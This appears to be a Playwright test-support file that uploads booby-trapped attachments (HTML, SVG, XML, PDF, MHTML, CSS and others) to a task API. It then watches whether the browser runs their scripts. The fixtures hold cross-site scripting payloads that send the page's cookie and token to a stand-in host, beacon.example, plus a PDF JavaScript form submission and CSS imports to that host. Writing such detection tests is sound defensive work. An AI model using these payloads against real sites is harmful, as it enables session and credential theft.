import type { BrowserContext, Page } from '@playwright/test'
import { type Attachment, MAX_FILES } from '#features/one-time-tasks/attachments/contract.ts'
import type { HostileFile } from '#features/one-time-tasks/attachments/server/test/hostile-contents.ts'
import { hostileFiles } from '#features/one-time-tasks/attachments/server/test/hostile-files.ts'
import { FORM_TYPE, formOf } from '#features/profile/server/test/forms.ts'
import { type Account, BASE, expect } from './support.ts'
import { read } from './task-record-support.ts'

const BEACON = 'https://beacon.example/'

/**
 * The actions of a planted script: write a mark, send the browser's cookie and token away, and open
 * a dialog.
 */
const LOUD = [
  "localStorage.setItem('planted', 'yes')",
  `new Image().src = '${BEACON}?' + encodeURIComponent(document.cookie + localStorage.getItem('token'))`,
  "alert('planted')",
].join('; ')
const SCRIPT = `<script>${LOUD}</script>`
const XHTML = 'http://www.w3.org/1999/xhtml'
const PAGE = `<!doctype html><title>planted</title><body onload="${LOUD}">${SCRIPT}</body>`
const XML_PAGE = `<?xml version="1.0"?><html xmlns="${XHTML}"><body>${SCRIPT}</body></html>`
const DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" onload="${LOUD}">${SCRIPT}</svg>`
const FEED = `<?xml version="1.0"?><rss version="2.0" xmlns:x="${XHTML}"><x:script>${LOUD}</x:script></rss>`
const STYLED = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xsl,${encodeURIComponent(
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${LOUD}</script></html></xsl:template></xsl:stylesheet>`,
)}"?><a/>`
const PAPER = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('${BEACON}'\\))>>/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
const MAIL = `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${PAGE}`

/** Files whose scripts are detected if the browser renders one of them. */
export const LOUD_FILES = (
  [
    ['planted.html', PAGE, 'text/html'],
    ['planted.htm', PAGE, 'text/html; charset=utf-8'],
    ['planted', PAGE, 'text/html'],
    ['planted.png', PAGE, 'image/png'],
    ['planted.txt', PAGE, 'text/plain'],
    ['wide.html', Buffer.from(`\ufeff${PAGE}`, 'utf16le'), 'text/html; charset=utf-16'],
    ['planted.xhtml', XML_PAGE, 'application/xhtml+xml'],
    ['planted.svg', DRAWING, 'image/svg+xml'],
    ['told.svg', `<?xml version="1.0"?>${DRAWING}`, 'image/svg+xml'],
    ['planted.rss', FEED, 'application/rss+xml'],
    ['planted.xml', STYLED, 'text/xml'],
    ['planted.pdf', PAPER, 'application/pdf'],
    ['page.pdf', `${PAGE}\n${PAPER}`, 'application/pdf'],
    ['planted.mhtml', MAIL, 'multipart/related'],
    ['planted.js', LOUD, 'text/javascript'],
    ['planted.mjs', LOUD, 'application/javascript'],
    ['planted.css', `@import url("${BEACON}"); body { background: url("${BEACON}") }`, 'text/css'],
    ['planted.json', LOUD, 'application/json'],
    ['planted.swf', LOUD, 'application/x-shockwave-flash'],
  ] as const
).map(
  ([filename, bytes, claims]): HostileFile => ({
    ...{ name: `a loud ${filename}`, filename, bytes: Buffer.from(bytes), claims },
    ends: { shown: filename, drawn: false },
  }),
)

const LARGE = 1024 * 1024
const isTaken = ({ ends, bytes }: HostileFile) => !('status' in ends) && bytes.length < LARGE
const isDrawn = ({ ends }: HostileFile) => 'drawn' in ends && ends.drawn === true
const isPicture = ({ name }: HostileFile) => name.startsWith('as a picture')

/** All files that a task accepts, except very large ones and broken pictures. */
export const takenFiles = async (): Promise<HostileFile[]> => [
  ...LOUD_FILES,
  ...(await hostileFiles()).filter((one) => isTaken(one) && !isPicture(one)),
]

/**
 * Pictures with additional content: the page shows only the images that the product rendered from
 * them.
 */
export const drawnFiles = async (): Promise<HostileFile[]> =>
  (await hostileFiles())
    .filter((one) => isTaken(one) && isDrawn(one))
    .map((one, at) => ({ ...one, filename: `${at + 1} ${one.filename}` }))

/** A hostile file attached to a task. */
export interface Planted {
  sent: HostileFile
  file: Attachment
}

/** Attaches files to a task with any claimed types, and reads their links as another user. */
export async function plant(
  { by, reader, id }: { by: Account; reader: Account; id: string },
  files: readonly HostileFile[],
): Promise<Planted[]> {
  const ids: string[] = []
  for (let at = 0; at < files.length; at += MAX_FILES) {
    const parts = files.slice(at, at + MAX_FILES).map(({ filename, bytes, claims }) => ({
      ...{ name: 'attachments', filename, bytes, type: claims ?? 'text/plain' },
    }))
    const response = await fetch(`${BASE}/api/tasks/${id}/attachments`, {
      method: 'POST',
      headers: { authorization: `Bearer ${by.token}`, 'content-type': FORM_TYPE },
      body: new Uint8Array(formOf(...parts)),
    })
    expect(response.status).toBe(201)
    const { attachments } = (await response.json()) as { attachments: Attachment[] }
    ids.push(...attachments.map((file) => file.id))
  }
  const { attachments } = await read(reader, id)
  return files.map((sent, at) => {
    const file = attachments.find((one) => one.id === ids[at])
    if (!file) throw new Error(`${sent.name} is not on the task`)
    return { sent, file }
  })
}

/** Records whatever a planted script does in a browser. */
export async function watch(context: BrowserContext) {
  const heard: string[] = []
  await context.route(`${BEACON}**`, (route) => {
    heard.push(route.request().url())
    return route.fulfill({ status: 204 })
  })
  const listen = (page: Page) =>
    page.on('dialog', (dialog) => {
      heard.push(`a dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
  for (const page of context.pages()) listen(page)
  context.on('page', listen)
  return {
    heard,
    /** The mark that a script left on a page of the product. */
    left: (page: Page) => page.evaluate(() => localStorage.getItem('planted')),
  }
}
